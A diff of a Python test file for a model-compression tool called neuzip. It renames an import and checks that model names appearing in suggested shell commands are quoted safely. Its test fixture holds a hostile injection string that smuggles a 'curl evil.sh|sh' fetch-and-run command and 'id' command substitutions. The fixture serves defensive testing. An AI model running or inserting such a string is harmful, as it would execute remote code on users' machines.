@@ -20,7 +20,7 @@ import pytest
 from golden.bad import make as bad
 
 from neuzip.compress import Rule, Scheme, compress, decompress, verify
-from neuzip.compress.against import compress_against
+from neuzip.compress.delta_job import compress_delta
 from neuzip.compress.export import Gguf, export
 from neuzip.compress.source import TensorSource
 from neuzip.errors import FormatError, NeuzipError, UsageError
@@ -370,7 +370,7 @@ HOSTILE_COMMAND = "org/model; curl evil.sh|sh #$(id)`id`'"
 def test_a_name_in_a_command_is_quoted(model: Path, tmp_path: Path, neuzip: Speak) -> None:
     """Hints and cards have commands to paste, with names that somebody else wrote."""
     compress(model, tmp_path / "same")
-    compress_against(tmp_path / "same", model, tmp_path / "d", HOSTILE_COMMAND)
+    compress_delta(tmp_path / "same", model, tmp_path / "d", HOSTILE_COMMAND)
     hint = neuzip("verify", tmp_path / "d", "--original", model).stderr.splitlines()[-1]
     assert shlex.split(hint) == ["hint:", "give", "--base", HOSTILE_COMMAND]
     card = plan_push(tmp_path / "d", "me/x").card
